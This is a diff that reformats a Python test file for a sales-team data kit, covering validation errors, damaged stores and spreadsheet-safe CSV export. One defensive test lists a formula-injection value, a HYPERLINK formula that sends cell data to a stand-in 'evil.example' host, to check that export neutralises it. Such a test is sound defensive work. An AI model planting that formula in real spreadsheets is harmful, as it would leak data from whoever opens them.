@@ -24,8 +24,13 @@ from kit.validate import validate
 
 
 def run_cli(*args, cwd=None):
-    r = subprocess.run([sys.executable, "-m", "kit", *map(str, args)], capture_output=True, text=True, cwd=cwd,
-                       env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)})
+    r = subprocess.run(
+        [sys.executable, "-m", "kit", *map(str, args)],
+        capture_output=True,
+        text=True,
+        cwd=cwd,
+        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
+    )
     out = r.stdout + r.stderr
     assert "Traceback" not in out and "internal error" not in out, out
     return r.returncode, out
@@ -91,7 +96,8 @@ def test_an_ods_workbook_is_refused_in_one_line(tmp_path):
     (tmp_path / "capture.ods").write_bytes(b"PK\x03\x04 not really")
     assert errors(tmp_path / "capture.ods") == [
         "capture.ods: is a LibreOffice (OpenDocument) spreadsheet, which the kit does not read; in LibreOffice use "
-        "File > Save As > 'Excel 2007-365 (.xlsx)'"]
+        "File > Save As > 'Excel 2007-365 (.xlsx)'"
+    ]
 
 
 def _workbook(path, edit):
@@ -115,15 +121,19 @@ def test_sheet_names_differing_in_case_or_space_are_refused(tmp_path):
     def twin(wb):
         ws = wb.create_sheet("Goals ")
         ws.append(TABLES["goals"].names)
+
     found = errors(_workbook(tmp_path / "c.xlsx", twin))
-    assert found == ["c.xlsx: has two sheets named 'goals' and 'Goals '; sheet names are read without regard to "
-                     "case and spaces: keep one"], found
+    assert found == [
+        "c.xlsx: has two sheets named 'goals' and 'Goals '; sheet names are read without regard to "
+        "case and spaces: keep one"
+    ], found
 
 
 def test_merged_cells_are_refused(tmp_path):
     found = errors(_workbook(tmp_path / "c.xlsx", lambda wb: wb["goals"].merge_cells("C2:C3")))
-    assert found == ["c.xlsx, sheet goals: has merged cells (C2:C3); unmerge them (Home > Merge & Center) and fill "
-                     "in every cell"], found
+    assert found == [
+        "c.xlsx, sheet goals: has merged cells (C2:C3); unmerge them (Home > Merge & Center) and fill in every cell"
+    ], found
     code, out = run_cli("validate", tmp_path / "c.xlsx")
     assert code == 1 and "merged cells" in out
 
@@ -133,8 +143,9 @@ def test_a_link_out_of_the_folder_is_refused(minimal, tmp_path):
     shutil.copyfile(minimal / "goals.csv", outside)
     (minimal / "goals.csv").unlink()
     (minimal / "goals.csv").symlink_to(outside)
-    assert errors(minimal) == ["goals.csv: is a link to a file outside the engagement folder; copy the file itself "
-                               "into the folder"]
+    assert errors(minimal) == [
+        "goals.csv: is a link to a file outside the engagement folder; copy the file itself into the folder"
+    ]
 
 
 def test_utf16_is_named(minimal):
@@ -146,19 +157,29 @@ def test_utf16_is_named(minimal):
 
 # ---------------------------------------------------------------- export: spreadsheet-safe and lossless
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"x")', "+1-555-0100", "-5% churn", "@SUM(A1:A9)",
-           "\tTabbed", "\rReturned", "'=already quoted", "''=two quotes", "'plain quote", "a = b", "$5k on $50k"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&B2,"x")',
+    "+1-555-0100",
+    "-5% churn",
+    "@SUM(A1:A9)",
+    "\tTabbed",
+    "\rReturned",
+    "'=already quoted",
+    "''=two quotes",
+    "'plain quote",
+    "a = b",
+    "$5k on $50k",
+]
 
 
 def test_export_is_spreadsheet_safe_and_import_reads_it_back_unchanged(store, tmp_path):
     for i, text in enumerate(HOSTILE, start=1):
         store.add("swot", dict(session_id="r1", item_id=f"h{i}", quadrant="S", text=text, control="team"))
     store.export(tmp_path / "out")
-    cells = [r["text"] for r in csv.DictReader(open(tmp_path / "out" / "swot.csv", encoding="utf-8-sig",
-                                                      newline=""))]
+    cells = [r["text"] for r in csv.DictReader(open(tmp_path / "out" / "swot.csv", encoding="utf-8-sig", newline=""))]
     for cell in cells:
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
-    assert "'=HYPERLINK(\"http://evil.example/?d=\"&B2,\"x\")" in cells and "a = b" in cells
+    assert '\'=HYPERLINK("http://evil.example/?d="&B2,"x")' in cells and "a = b" in cells
     with open_engagement(tmp_path / "back.db", create=True) as back:
         back.import_source(tmp_path / "out")
         got = dict(zip(back.swot(session_id="r1")["item_id"], back.swot(session_id="r1")["text"]))
@@ -207,18 +228,25 @@ def _damaged(store, tmp_path, how):
     return path
 
 
-@pytest.mark.parametrize("how, words", [
-    ("empty_version", "the store is damaged: its schema_version table holds nothing, not one version number"),
-    ("text_version", "the store is damaged: its schema_version table holds 'two', not one version number"),
-    ("missing_table", "the store is damaged: table goals is missing"),
-    ("bad_meta", "the store is damaged: setting 'client' holds '{oops', which is not valid JSON"),
-    ("corrupt_page", "the store is damaged (database disk image is malformed)"),
-])
+@pytest.mark.parametrize(
+    "how, words",
+    [
+        ("empty_version", "the store is damaged: its schema_version table holds nothing, not one version number"),
+        ("text_version", "the store is damaged: its schema_version table holds 'two', not one version number"),
+        ("missing_table", "the store is damaged: table goals is missing"),
+        ("bad_meta", "the store is damaged: setting 'client' holds '{oops', which is not valid JSON"),
+        ("corrupt_page", "the store is damaged (database disk image is malformed)"),
+    ],
+)
 def test_a_damaged_store_is_one_clear_line(store, tmp_path, how, words):
     path = _damaged(store, tmp_path, how)
     outputs = []
-    for args in (("summary", path), ("export", path, tmp_path / f"out-{how}"),
-                 ("import", MINIMAL, path), ("report", path, "--out", tmp_path / f"rep-{how}")):
+    for args in (
+        ("summary", path),
+        ("export", path, tmp_path / f"out-{how}"),
+        ("import", MINIMAL, path),
+        ("report", path, "--out", tmp_path / f"rep-{how}"),
+    ):
         code, out = run_cli(*args)
         assert code == 1, out
         outputs.append(out)
@@ -233,8 +261,10 @@ def test_a_full_disk_names_the_cause_and_writes_nothing(store):
     rows = [dict(session_id="k1", member_id="s1", goal="x" * 4000, category="other", visibility="team")] * 30
     with pytest.raises(KitError) as e:
         store.add("goals", rows)
-    assert str(e.value) == (f"{store.path}: the disk is full (database or disk is full); free some disk space and "
-                            "try again (nothing was written)")
+    assert str(e.value) == (
+        f"{store.path}: the disk is full (database or disk is full); free some disk space and "
+        "try again (nothing was written)"
+    )
     assert len(store.goals()) == before
 
 
@@ -283,13 +313,28 @@ def _full_check(monkeypatch):
 BAD_WRITES = [
     ("add", "goals", dict(session_id="k1", member_id="zed", goal="x", category="other", visibility="team")),
     ("add", "goals", dict(session_id="k9", member_id="s1", goal="x", category="other", visibility="team")),
-    ("add", "commitments", dict(session_id="k1", member_id="s1", annual_commitment=1, avg_deal_size=1, win_rate=0.5,
-                                sales_cycle_days=10)),
+    (
+        "add",
+        "commitments",
+        dict(session_id="k1", member_id="s1", annual_commitment=1, avg_deal_size=1, win_rate=0.5, sales_cycle_days=10),
+    ),
     ("add", "swot_votes", dict(session_id="k1", item_id="i1", voter_id="s1", dots=3)),
     ("add", "swot_votes", dict(session_id="k1", item_id="i9", voter_id="s1", dots=1)),
     ("add", "kpis", dict(session_id="k1", scope="Mars", kpi_id="win_rate", target=1, period="week")),
-    ("add", "roleplay", dict(session_id="k1", scenario="Call A", rubric_id="discovery_call", seller_id="s1",
-                             rater_id="s2", rater_role="manager", criterion_id="opening", score=3)),
+    (
+        "add",
+        "roleplay",
+        dict(
+            session_id="k1",
+            scenario="Call A",
+            rubric_id="discovery_call",
+            seller_id="s1",
+            rater_id="s2",
+            rater_role="manager",
+            criterion_id="opening",
+            score=3,
+        ),
+    ),
     ("add", "members", dict(member_id="s9", team_id="t7", name="N", role="seller", territory="E", annual_quota=1)),
     ("add", "kpi_actuals", dict(member_id="ghost", kpi_id="win_rate", period_end="2026-01-31", value=1)),
     ("delete", "members", {"member_id": "s3"}),
@@ -318,15 +363,19 @@ def test_a_write_checked_on_its_rows_says_what_the_full_check_says(tmp_path, op,
                 else:
                     eng.set_settings(**arg)
         return str(e.value)
+
     scoped = attempt()
     _full_check(monkeypatch)
     assert scoped == attempt()
 
 
 def test_good_writes_pass_the_scoped_check(store):
-    store.add_many({"teams": dict(team_id="t2", name="Two", manager_id="m2", annual_target=10),
-                    "members": dict(member_id="m2", team_id="t2", name="M", role="manager", territory="",
-                                    annual_quota=0)})
+    store.add_many(
+        {
+            "teams": dict(team_id="t2", name="Two", manager_id="m2", annual_target=10),
+            "members": dict(member_id="m2", team_id="t2", name="M", role="manager", territory="", annual_quota=0),
+        }
+    )
     store.update("members", {"member_id": "s1"}, territory="North")
     store.update("sessions", {"session_id": "r1"}, leader_id="s3")
     store.put("kpi_actuals", dict(member_id="s1", kpi_id="win_rate", period_end="2026-03-31", value="30%"))
